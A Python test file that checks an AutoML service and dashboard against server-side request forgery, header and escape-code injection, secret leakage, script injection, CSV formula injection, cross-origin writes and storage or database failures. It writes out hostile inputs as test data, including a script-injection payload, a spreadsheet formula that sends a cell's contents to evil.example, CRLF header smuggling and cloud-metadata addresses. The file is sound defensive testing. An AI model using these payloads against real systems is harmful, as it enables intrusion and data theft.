"""Attacks 20 and 25 to 27: where messages go, what is told and shown, and what is said when something is missing."""

from __future__ import annotations

import csv
import errno
import hashlib
import io
import logging
import os
import threading
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import sqlalchemy as sa

from automl.declaration import Choice, Space
from automl.service.refusals import keep_logs_clean
from dashboard.study_views.tables import TrialTable
from dashboard.study_views.trials import csv_text
from tests.attacks.knocks import API, begun, everything, files, refused
from tests.conformance.lab import complete, new_token, spec
from tests.postgres import PostgresServer
from tests.unit.dashboard.apps import opened, words
from tests.unit.service.house import House, open_house
from tests.unit.service.receiver import receiving

CANARY = "c4n4ry" + "x" * 37
SCRIPT = "<script>alert(1)<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


def test_20_no_message_goes_to_an_address_that_is_not_public(house: House) -> None:
    """Redirects and names that change what they stand for: tests/unit/service/test_outbound.py."""
    with receiving() as receiver:
        for host in ("127.0.0.1", "localhost", "2130706433", "0x7f000001", "127.1", "[::1]", "[::ffff:127.0.0.1]", "0"):
            body = {"name": "x", "kind": "webhook", "address": f"http://{host}:{receiver.port}/"}
            assert refused(house, "POST", "channels", body)[::2] == (422, "url"), host
        for address in (
            "http://169.254.169.254/latest/",
            "http://10.0.0.1/",
            "http://[fd00:ec2::254]/",
            "file:///etc/x",
        ):
            for kind in ("webhook", "slack"):
                body = {"name": "x", "kind": kind, "address": address}
                assert refused(house, "POST", "channels", body)[::2] == (422, "url"), address
        allowed = {"name": "x", "kind": "webhook", "address": receiver.url, "allow_private": True}
        assert refused(house, "POST", "channels", allowed)[:2] == (403, "insufficient_scope")
        assert receiver.connections == 0
    assert house.engine.channels.all() == []


def test_25_what_was_sent_ends_neither_a_line_nor_a_header(house: House, caplog: pytest.LogCaptureFixture) -> None:
    """Names with line ends and escape codes are refused, where they would be shown; else they are JSON's."""
    odd = "a\r\nX-Evil: 1\r\n\r\n\x1b[31m"
    with caplog.at_level(logging.DEBUG, "automl"):
        record, token = begun(house)
        body = {"spec": {**(record.spec or {}), "name": odd}}
        assert refused(house, "POST", "studies", body)[0] == 422
        assert refused(house, "POST", "tokens", {"name": odd, "scopes": ["read"]})[0] == 422
        fields = {"name": odd, "reference": odd}
        for path in ("studies", "models/files", "models/version", "schedules"):
            answer = house.ask("GET", f"{API}/{path}", fields=fields)
            assert "X-Evil" not in answer.headers
            assert b"\r" not in answer.data and b"\x1b" not in answer.data
        failed = {"token": token, "kind": "error", "message": odd}
        assert house.ask("POST", f"{API}/work/fail", who="work", json=failed).status == 200
        answer = house.ask("GET", f"{API}/studies/{record.id}/trials/0")
        assert b"\x1b" not in answer.data and b"\r" not in answer.data
        assert house.ask("GET", f"{API}/studies", headers={"X-Request-Id": "a\x1b[31m"}).status == 400
    assert "\x1b" not in caplog.text and "X-Evil: 1\n" not in caplog.text


def test_25_no_secret_is_in_a_log_or_in_an_error(house: House) -> None:
    """Thorough, for what goes wrong inside: tests/unit/service/test_refusals.py."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.addFilter(lambda record: not record.name.startswith("urllib3"))  # that is the one who asks
    root, make = logging.getLogger(), logging.getLogRecordFactory()
    level = root.level
    keep_logs_clean()
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    said = []
    try:
        record, token = begun(house)
        for method, path, body in (
            ("POST", "tokens", {"name": [CANARY], "scopes": ["read"]}),
            ("POST", "tokens", {"name": "x", "scopes": [CANARY]}),
            ("POST", "channels", {"name": "x", "kind": "webhook", "address": f"http://me:{CANARY}@127.0.0.1/"}),
            ("POST", "channels", {"name": "x", "kind": "webhook", "address": "http://10.0.0.1/", "secret": CANARY}),
            ("POST", "tell", {"token": CANARY, "values": [1.0]}),
            ("POST", "work/finish", {"token": token, "password": CANARY}),
            ("POST", f"studies/{record.id}/trials", {"params": {"x": {"password": CANARY}}}),
            ("GET", f"studies?limit={CANARY}&token={CANARY}", None),
        ):
            answer = house.ask(method, f"{API}/{path}", **({} if body is None else {"json": body}))
            assert answer.status == 422, (path, answer.data)
            said.append(answer.data.decode())
        said.append(house.ask("GET", f"{API}/studies", who=f"automl_{'0' * 12}_{CANARY}").data.decode())
        said.append(house.ask("GET", f"{API}/nowhere?token={CANARY}").data.decode())
    finally:
        root.removeHandler(handler)
        root.setLevel(level)
        logging.setLogRecordFactory(make)
    secrets = [CANARY, *(token.split("_", 2)[2] for token in house.tokens.values())]
    for secret in secrets:
        assert secret not in stream.getvalue()
        assert not any(secret in text for text in said)


def test_26_a_name_is_text_in_the_api_in_the_report_and_on_the_pages(
    house: House, url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """In a browser: tests/browser/test_frame.py."""
    record, _ = begun(house, SCRIPT)
    answer = house.ask("GET", f"{API}/studies/{record.id}")
    assert answer.headers["Content-Type"] == "application/json"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert "default-src 'none'" in answer.headers["Content-Security-Policy"]
    batch = {"name": "night", "studies": [{"spec": spec(SCRIPT + "2").to_json(), "entrypoint": "a.py:b"}]}
    assert house.ask("POST", f"{API}/batches", json=batch).status == 201
    report = house.ask("GET", f"{API}/batches/night/report")
    assert b"<script>alert" not in report.data and b"onerror=alert(1)>" not in report.data
    assert b"&lt;script&gt;alert" in report.data
    app = opened(monkeypatch, url, house.engine.artifacts.root, "study", study=SCRIPT, view="Trials")
    assert "<script>" not in words(app)
    assert "&lt;script&gt;" in words(app)


def test_26_no_cell_that_leaves_as_csv_becomes_a_formula(house: House) -> None:
    """Neither by what it holds nor by its column. Thorough: tests/unit/dashboard/test_trial_table.py."""
    odd = [start + FORMULA for start in ("", "+", "-", "@", "\t", "\r")]
    record = house.engine.declare(spec("lab", space=Space({FORMULA: Choice("b", *odd)})))
    for value in odd:
        body = {"params": {FORMULA: value}}
        assert house.ask("POST", f"{API}/studies/{record.id}/trials", json=body).status == 201
    house.engine.suggester(record).step(len(odd), 60.0)
    for value in odd:
        token = new_token()
        assert house.engine.claim([record.id], value, token, 60.0)
        house.engine.finish(token, complete(0.5))
    text = csv_text(TrialTable(house.engine.board(record)), np.ones(len(odd), dtype=bool))
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row if FORMULA in cell]
    assert {f"'{value}" for value in odd} <= set(cells)
    assert all(cell.startswith("'") for cell in cells)


def test_26_a_page_of_another_site_cannot_write(house: House) -> None:
    """Not even with a token that a browser would send. Thorough: tests/unit/service/test_auth.py."""
    for headers in (
        {"Origin": "https://evil.example"},
        {"Origin": "null"},
        {"Origin": house.url.replace("127.0.0.1", "localhost.evil.example")},
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
    ):
        body = {"name": "x", "scopes": ["admin"]}
        assert refused(house, "POST", "tokens", body, headers=headers)[:2] == (403, "foreign_origin")
        assert refused(house, "DELETE", "tokens/admin", headers=headers)[:2] == (403, "foreign_origin")
    preflight = house.ask("OPTIONS", f"{API}/tokens", headers={"Origin": "https://evil.example"})
    assert not [name for name in preflight.headers if name.lower().startswith("access-control")]


def test_27_without_its_database_it_says_when_to_come_again(own_postgres: PostgresServer, artifacts: Path) -> None:
    """And not where the database is. SQLite is a file, which is not away."""
    url = own_postgres.create_database()
    with open_house(url, artifacts) as house:
        record, token = begun(house)
        own_postgres.stop()
        for method, path, body in (
            ("GET", "studies", None),
            ("POST", "studies", {"spec": spec("other").to_json()}),
            ("POST", "tell", {"token": token, "values": [0.5]}),
            ("POST", "work/finish", {"token": token, "outcome": {"state": "complete", "values": [0.5]}}),
        ):
            answer = house.ask(method, f"{API}/{path}", **({} if body is None else {"json": body}))
            said = house.said(answer)
            assert (answer.status, said["code"]) == (503, "database_unavailable"), path
            assert int(answer.headers["Retry-After"]) >= 1
            assert not [part for part in ("127.0.0.1", "postgres", "password") if part in said["message"]]
        own_postgres.start()
        body = {"token": token, "values": [0.5]}
        assert house.ask("POST", f"{API}/tell", json=body).status == 204
        assert house.ask("GET", f"{API}/studies/{record.id}/trials/0").json()["values"] == [0.5]


def test_27_on_a_full_disk_nothing_is_half_there(house: House, monkeypatch: pytest.MonkeyPatch) -> None:
    """The disk says so at the last moment, when everything is written and is to be kept."""
    begun(house)
    root = house.engine.artifacts.root
    before, there = everything(house), files(root)

    def full(descriptor: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device", str(root))

    content = b'{"recipe": null}'
    path = f"{API}/files/{hashlib.sha256(content).hexdigest()}/model.json"
    octets = {"Content-Type": "application/octet-stream"}
    with monkeypatch.context() as patched:
        patched.setattr(os, "fsync", full)
        answer = house.ask("PUT", path, who="work", body=content, headers=octets)
    said = house.said(answer)
    assert (answer.status, said["code"]) == (507, "storage_full")
    assert int(answer.headers["Retry-After"]) >= 1
    assert str(root) not in said["message"]
    assert house.ask("GET", path).status == 404
    assert files(root) == there and everything(house) == before
    assert house.ask("PUT", path, who="work", body=content, headers=octets).status == 204


def test_27_when_a_database_file_cannot_grow_nothing_is_half_there(sqlite_url: str, artifacts: Path) -> None:
    with open_house(sqlite_url, artifacts) as house:

        @sa.event.listens_for(house.engine.database._engine, "connect")
        def full(connection: Any, record: object) -> None:
            connection.execute("PRAGMA max_page_count = 1")  # it never has fewer than there are

        made = 0
        while True:
            large = {"spec": spec(f"s{made}").to_json(), "entrypoint": "x" * 4000}
            answer = house.ask("POST", f"{API}/studies", json=large)
            if answer.status != 200:
                break
            made += 1
            assert made < 200, "it never became full"
        assert (answer.status, house.said(answer)["code"]) == (507, "storage_full")
        assert int(answer.headers["Retry-After"]) >= 1
        assert len(house.engine.studies()) == made


def test_27_while_all_threads_wait_it_still_answers_who_asks_whether_it_lives(house: House) -> None:
    """More requests at once than there are threads and connections: they are answered one after the other."""
    begun(house)
    statuses: list[int] = []

    def ask() -> None:
        for _ in range(5):
            statuses.append(house.ask("GET", f"{API}/studies").status)

    askers = [threading.Thread(target=ask) for _ in range(100)]
    for asker in askers:
        asker.start()
    assert house.ask("GET", "/healthz", who=None).status == 200
    for asker in askers:
        asker.join()
    assert set(statuses) == {200} and len(statuses) == 500
